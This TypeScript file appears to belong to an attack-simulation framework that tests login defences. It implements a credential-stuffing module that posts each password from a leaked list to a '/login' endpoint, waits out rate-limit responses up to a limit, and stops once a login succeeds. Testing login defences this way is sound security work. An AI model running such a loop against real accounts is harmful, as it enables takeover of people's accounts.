/**
 * stuffing: tries the passwords of a leaked list, one after the other.
 *
 * What it does: logs in with each until one is right or the directory makes her wait for longer than is worth it.
 * Published: Pal, Daniel, Chatterjee and Ristenpart, "Beyond Credential Stuffing", IEEE S&P 2019.
 * What stops it: after a few failures each further one makes the next guess wait, longer each time (RFC 6238 §5.2
 * asks for that where codes are guessed).
 */

import type { Attack, HttpAnswer, Mallory } from './attack'
import { deed } from './deeds'
import { noop } from './noop'
import { lookAround } from './session-proof'

/** Seconds that she waits for one guess; in a hurry none. */
const PATIENCE = 5

export const stuffing: Attack = {
  name: 'stuffing',
  about: 'tries the passwords of a leaked list, one after the other',
  prepare: noop.prepare,
  async launch(mallory) {
    const { told, acted, request, progress, halted, quick } = mallory
    const patience = quick ? 0 : PATIENCE
    const [name = ''] = told('people')
    const passwords = told(`passwords of ${name}`)
    acted(deed('tries-passwords', passwords.length, name), { to: name })
    for (const [index, password] of passwords.entries()) {
      let answer = await request('POST', '/login', { body: { name, password } })
      for (let wait = waitOf(answer); wait > 0; wait = waitOf(answer)) {
        if (wait > patience || halted.aborted) {
          acted(deed('waits-too-long', index, wait))
          return
        }
        await pause(wait * 1000, mallory)
        answer = await request('POST', '/login', { body: { name, password } })
      }
      if (index % 25 === 0) progress(index, passwords.length, deed('passwords-tried'))
      if (await lookAround(mallory, answer, name)) return
    }
  },
}

/** @returns the seconds that an answer says to wait, 0 if it says none. */
function waitOf({ status, json }: HttpAnswer): number {
  if (status !== 429) return 0
  return Number((json as { error?: { retryAfter?: number } }).error?.retryAfter ?? 1)
}

/** Ends early when the phase does. */
function pause(milliseconds: number, { halted }: Mallory): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(resolve, milliseconds)
    halted.addEventListener('abort', () => {
      clearTimeout(timer)
      resolve()
    })
  })
}
